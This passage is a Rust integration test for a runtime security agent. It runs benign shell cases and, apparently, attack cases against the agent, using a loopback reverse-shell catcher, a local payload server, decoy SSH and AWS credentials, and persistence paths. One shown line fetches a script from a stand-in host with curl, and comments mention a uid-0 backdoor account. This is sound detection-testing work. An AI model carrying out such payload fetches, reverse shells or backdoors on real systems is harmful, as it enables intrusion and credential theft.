            "v=$(curl -s $H/p.sh | head -c 2); test -n \"$v\" && echo \"$v\" > /dev/null",
        ),
        benign(
            "ping-localhost",
            "reachability check with ping",
            "ping -c 1 -W 1 127.0.0.1 > /dev/null",
        ),
        benign(
            "strace-own-program",
            "tracing a program one starts",
            "strace -f -o $W/trace /bin/true && gdb -q -batch -ex run --args /bin/true > /dev/null 2>&1",
        ),
        benign(
            "tmp-cleanup",
            "old files removed",
            "touch -d '10 days ago' $T/old && find $T -type f -mtime +7 -delete",
        ),
        benign(
            "text-processing",
            "awk, perl, sed on system files",
            r#"awk -F: '{print $1}' /etc/passwd > /dev/null; perl -ne 'print if /root/' /etc/passwd > /dev/null
sed -n 1p /etc/group > /dev/null; python3 -m json.tool <<< '{"a": 1}' > /dev/null"#,
        ),
        benign(
            "login-shell",
            "a login shell reading its profiles",
            "bash -lc 'echo $PATH' > /dev/null; sh -c 'for i in 1 2 3; do echo $i; done' | wc -l > /dev/null",
        ),
        benign(
            "config-backup-diff",
            "copies and diffs of configuration",
            "cp /etc/hosts $W/hosts.bak && diff -q /etc/hosts $W/hosts.bak && cp -a /etc/ssh $W/ssh.bak 2>/dev/null || true",
        ),
        benign(
            "modes-and-owners",
            "ordinary modes and owners",
            "touch $W/a $W/b && chmod 755 $W/a && chmod 600 $W/b && chown nobody $W/b && chmod g+w $W/a",
        ),
        benign(
            "admin-checks",
            "ssh, visudo and package queries",
            "ssh -V 2>/dev/null; visudo -c > /dev/null; dpkg -l | wc -l > /dev/null; \
             apt-cache policy curl > /dev/null",
        ),
        benign(
            "docker-ps",
            "docker queries",
            "docker ps > /dev/null && docker images > /dev/null",
        ),
        benign(
            "python-script-in-workdir",
            "a script run from a work directory",
            r#"printf 'import os\nprint(len(os.listdir("/etc")))\n' > $W/count.py && python3 $W/count.py > /dev/null && bash -c 'exit 0'"#,
        ),
        benign(
            "archive-and-compress",
            "archives of one's own files",
            "mkdir -p $W/arch && echo x > $W/arch/f && tar cJf $W/arch.tar.xz -C $W arch && \
             zip -qr $W/arch.zip $W/arch && gzip -k $W/arch/f",
        ),
    ]
}

/// A TCP listener standing in for the attacker's end of the reverse shells: each connection
/// gets `id` and `exit`, then end of file, so the shell it feeds ends.
struct Catcher {
    port: u16,
    stop: Arc<AtomicBool>,
    thread: Option<thread::JoinHandle<()>>,
}

impl Catcher {
    fn start() -> Catcher {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the reverse-shell catcher");
        let port = listener.local_addr().expect("catcher address").port();
        listener
            .set_nonblocking(true)
            .expect("non-blocking catcher");
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = thread::spawn(move || {
            while !flag.load(Ordering::Relaxed) {
                match listener.accept() {
                    Ok((stream, _)) => {
                        thread::spawn(move || answer(stream));
                    }
                    Err(_) => thread::sleep(Duration::from_millis(20)),
                }
            }
        });
        Catcher {
            port,
            stop,
            thread: Some(thread),
        }
    }
}

fn answer(mut stream: TcpStream) {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_secs(3)));
    let _ = stream.write_all(b"id\nexit\n");
    let _ = stream.shutdown(Shutdown::Write);
    let mut sink = [0u8; 4096];
    while let Ok(n) = stream.read(&mut sink) {
        if n == 0 {
            break;
        }
    }
}

impl Drop for Catcher {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// `python3 -m http.server` on loopback, serving the payloads; stopped when dropped.
struct Downloads {
    child: Child,
}

impl Downloads {
    fn start(dir: &Path, port: u16) -> Downloads {
        let child = Command::new("/usr/bin/python3")
            .args(["-m", "http.server", "--bind", "127.0.0.1"])
            .arg(port.to_string())
            .current_dir(dir)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start python3 -m http.server");
        let up = wait_for(Duration::from_secs(10), || {
            TcpStream::connect(("127.0.0.1", port)).ok()
        });
        assert!(
            up.is_some(),
            "the download server on port {port} did not come up"
        );
        Downloads { child }
    }
}

impl Drop for Downloads {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Everything the cases touch outside their scratch directories, made before and removed
/// after; and accounts a case may add, deleted after.
struct World {
    /// Held for its removal on drop.
    _scratch: Scratch,
    prelude: String,
    name: String,
    scripts: PathBuf,
    /// A copy of nobody's crontab from before the suite, if there was one.
    nobody_crontab: Option<PathBuf>,
}

impl World {
    fn new(http_port: u16, catcher_port: u16) -> World {
        let mut scratch = Scratch::new();
        let t = scratch.unique_dir("/tmp");
        let v = scratch.unique_dir("/var/tmp");
        let s = scratch.unique_dir("/dev/shm");
        let w = scratch.unique_dir("/var/lib");
        let scripts = scratch.dir(w.join("cases"));
        let name = unique_name("rasp-suite");
        let u = scratch.dir(PathBuf::from("/home").join(&name));
        scratch.file(u.join(".bashrc"), b"# ~/.bashrc\n", 0o644);
        scratch.file(u.join(".profile"), b"# ~/.profile\n", 0o644);
        scratch.file(u.join(".bash_history"), b"ls\nsudo -i\n", 0o600);
        scratch.file(u.join(".python_history"), b"import os\n", 0o600);
        scratch.file(
            u.join(".ssh/id_rsa"),
            b"-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n",
            0o600,
        );
        scratch.file(
            u.join(".aws/credentials"),
            b"[default]\naws_access_key_id = AKIAEXAMPLE\n",
            0o600,
        );
        for i in 0..3 {
            scratch.file(w.join(format!("docs/report{i}.txt")), b"quarterly\n", 0o644);
        }
        let lib = harmless_library();
        scratch.copy(lib, t.join("libx.so"));
        scratch.copy(lib, s.join("libx.so"));
        scratch.file(t.join("rootkit.ko"), b"\x7fELF not a module", 0o644);
        for suffix in ["a", "b", "c", "d"] {
            scratch.file(
                format!("/var/log/{name}-{suffix}.log"),
                b"Dec  7 00:00:00 host sshd[1]: Accepted password for root\n",
                0o640,
            );
        }
        scratch.copy("/bin/true", format!("/usr/local/bin/{name}"));
        scratch.copy("/bin/true", format!("/usr/local/sbin/{name}"));
        scratch.file(format!("/var/tmp/{name}"), b"locked\n", 0o644);
        // Hosts without udev lack the rules directory an intruder would find.
        scratch.dir("/etc/udev/rules.d");
        // What the cases create outside the scratch directories.
        for path in [
            format!("/etc/cron.d/{name}"),
            format!("/etc/systemd/system/{name}.service"),
            format!("/etc/profile.d/{name}.sh"),
            format!("/etc/sudoers.d/{name}.disabled"),
            format!("/etc/udev/rules.d/99-{name}.rules"),
            format!("/etc/apt/apt.conf.d/99{name}"),
            format!("/var/log/{name}-rot.log"),
            format!("/var/log/{name}-rot.log.1.gz"),
            format!("/home/{name}-b"),
        ] {
            scratch.adopt(path);
        }
        if !Path::new("/etc/ld.so.preload").exists() {
            scratch.adopt("/etc/ld.so.preload");
        }
        let www = scratch.dir(w.join("www"));
        fs::write(www.join("p.sh"), "id > /dev/null\n").expect("write p.sh");
        fs::write(www.join("p.py"), "import os\nos.getpid()\n").expect("write p.py");
        fs::write(www.join("p.js"), "process.pid;\n").expect("write p.js");
        fs::write(www.join("p.pl"), "print \"\";\n").expect("write p.pl");
        fs::copy("/bin/true", www.join("x")).expect("copy the implant");
        let prelude = format!(
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n\
             umask 077\n\
             T={t} V={v} S={s} W={w} U={u} N={name}\n\
             H=http://127.0.0.1:{http_port} HP={http_port} LP={catcher_port}\n",
            t = t.display(),
            v = v.display(),
            s = s.display(),
            w = w.display(),
            u = u.display(),
        );
        let saved = w.join("nobody.crontab");
        let nobody_crontab = output_within(
            Command::new("crontab").args(["-u", "nobody", "-l"]),
            Duration::from_secs(10),
        )
        .filter(|out| out.status.success() && !out.stdout.is_empty())
        .map(|out| {
            fs::write(&saved, &out.stdout).expect("save nobody's crontab");
            saved
        });
        World {
            _scratch: scratch,
            prelude,
            name,
            scripts,
            nobody_crontab,
        }
    }

    fn www(&self) -> PathBuf {
        self.scripts
            .parent()
            .expect("cases dir has a parent")
            .join("www")
    }
}

impl Drop for World {
    fn drop(&mut self) {
        // Accounts a case may have added: the uid-0 backdoor (home /root, as the catalogue
        // writes it) and the benign user. Never `userdel -r`: the backdoor's home is root's
        // own home, and -r would delete /root. The benign user's home is removed as scratch.
        for user in [self.name.clone(), format!("{}-b", self.name)] {
            let _ = Command::new("userdel")
                .args(["-f", &user])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        }
        // nobody's crontab as it was before the cases edited it.
        let mut restore = Command::new("crontab");
        match &self.nobody_crontab {
            Some(saved) => restore.args(["-u", "nobody"]).arg(saved),
            None => restore.args(["-u", "nobody", "-r"]),
        };
        let _ = restore.stdout(Stdio::null()).stderr(Stdio::null()).status();
    }
}

struct Outcome {
    rules: Vec<String>,
    exit: String,
}

#[test]
fn attack_suite_detects_attacks_and_no_benign_activity() {
    require_root();
    let missing: Vec<String> = TOOLS
        .iter()
        .filter(|(program, _)| !Path::new(program).exists())
        .map(|(program, package)| format!("{program} (Debian package `{package}`)"))
        .collect();
    assert!(
        missing.is_empty(),
        "the attack suite runs the real tools; missing: {}",
        missing.join(", ")
    );
    let docker_up = output_within(
        Command::new("docker").args(["version", "--format", "{{.Server.Version}}"]),
        Duration::from_secs(20),
    )
    .is_some_and(|out| out.status.success());
    assert!(
        docker_up,
        "the docker cases need a running dockerd (`docker version` failed)"
    );

    let agent = Agent::start(&[]);
    let catcher = Catcher::start();
    let http_port = free_loopback_port();
    let world = World::new(http_port, catcher.port);
    let downloads = Downloads::start(&world.www(), http_port);

    let mut cases = attacks();
    cases.extend(benign_cases());
    let mut ids = std::collections::BTreeSet::new();
    for case in &cases {
        assert!(ids.insert(case.id), "case id {} used twice", case.id);
    }

    let started = Instant::now();
    let mut runs: Vec<(Cgroup, &Case, String)> = Vec::new();
    for case in &cases {
        let script = world.scripts.join(format!("{}.sh", case.id));
        let marker = world.scripts.join(format!("{}.exit", case.id));
        let bind_port = free_loopback_port();
        fs::write(
            &script,
            format!("{}BP={bind_port}\n{}\n", world.prelude, case.body),
        )
        .unwrap_or_else(|err| panic!("write {}: {err}", script.display()));
        let cgroup = if case.container {
            container_cgroup().0
        } else {
            Cgroup::new(case.id)
        };
        let case_started = Instant::now();
        let pid = spawn_detached(
            &format!(
                "bash -c 'bash {} > /dev/null 2>&1 < /dev/null; echo $? > {}'",
                script.display(),
                marker.display()
            ),
            Some(&cgroup),
        );
        let finished = wait_for(CASE_DEADLINE, || {
            (process_gone(pid) && cgroup.procs().is_empty()).then_some(())
        });
        let exit = match finished {
            Some(()) => fs::read_to_string(&marker)
                .map(|t| t.trim().to_string())
                .unwrap_or_else(|_| "?".into()),
            None => "timeout".into(),
        };
        let exit = format!("{exit} ({:.1} s)", case_started.elapsed().as_secs_f64());
        runs.push((cgroup, case, exit));
    }
    let ran_for = started.elapsed();
    thread::sleep(REPORT_DEADLINE);

    let mut by_cgroup: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for d in agent.detections(&[]) {
        if let (Some(cg), Some(rule)) = (d["event"]["cgroup"].as_str(), d["rule_id"].as_str()) {
            let rules = by_cgroup.entry(cg.to_string()).or_default();
            if !rules.iter().any(|r| r == rule) {
                rules.push(rule.to_string());
            }
        }
    }
    let outcomes: Vec<(&Case, Outcome)> = runs
        .iter()
        .map(|(cgroup, case, exit)| {
            let rules = by_cgroup
                .get(cgroup.path_in_hierarchy())
                .cloned()
                .unwrap_or_default();
            (
                *case,
                Outcome {
                    rules,
                    exit: exit.clone(),
                },
            )
        })
        .collect();
    let report = table(&outcomes);
    let attacks: Vec<_> = outcomes
        .iter()
        .filter(|(c, _)| c.kind == Kind::Attack)
        .collect();
    let detected = attacks.iter().filter(|(_, o)| !o.rules.is_empty()).count();
    let flagged: Vec<_> = outcomes
        .iter()
        .filter(|(c, o)| c.kind == Kind::Benign && !o.rules.is_empty())
        .collect();
    let ratio = detected as f64 / attacks.len() as f64;
    eprintln!(
        "{report}\nattacks detected: {detected} of {} ({ratio:.2}); benign flagged: {} of {}; \
         cases ran in {ran_for:?}",
        attacks.len(),
        flagged.len(),
        outcomes.len() - attacks.len()
    );
    drop(downloads);
    drop(catcher);
    drop(world);
    assert!(
        flagged.is_empty(),
        "benign cases flagged: {:?}",
        flagged
            .iter()
            .map(|(c, o)| (c.id, &o.rules))
            .collect::<Vec<_>>()
    );
    assert!(
        ratio >= REQUIRED_RATIO,
        "{detected} of {} attacks detected ({ratio:.2} < {REQUIRED_RATIO}); missed: {:?}",
        attacks.len(),
        attacks
            .iter()
            .filter(|(_, o)| o.rules.is_empty())
            .map(|(c, _)| c.id)
            .collect::<Vec<_>>()
    );
}

fn table(outcomes: &[(&Case, Outcome)]) -> String {
    let mut out = String::from("case | technique | kind | exit | detections\n");
    for (case, o) in outcomes {
        let kind = match case.kind {
            Kind::Attack => "attack",
            Kind::Benign => "benign",
        };
        let rules = if o.rules.is_empty() {
            "-".to_string()
        } else {
            o.rules.join(", ")
        };
        out.push_str(&format!(
            "{} | {} | {kind} | {} | {rules}\n",
            case.id, case.technique, o.exit
        ));
    }
    out
}
